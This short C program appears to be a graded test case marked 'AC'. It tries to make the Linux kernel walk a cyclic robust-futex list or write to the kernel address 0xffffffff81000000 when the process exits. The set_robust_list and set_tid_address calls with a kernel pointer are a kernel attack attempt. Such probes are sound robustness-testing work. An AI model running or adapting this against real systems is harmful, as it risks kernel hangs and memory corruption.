// verdict: AC
// tries: to make the kernel walk an endless list of locks, or write to any address, when it exits
#define _GNU_SOURCE
#include <linux/futex.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(void) {
    static struct robust_list_head head;
    static struct robust_list ring[2] = {{&ring[1]}, {&ring[0]}};
    head.list.next = &ring[0];
    head.futex_offset = (long)0xffffffff81000000 - (long)&ring[0];
    if (syscall(SYS_set_robust_list, &head, sizeof head)) return 1;
    syscall(SYS_set_tid_address, (int *)0xffffffff81000000);
    return 0;
}
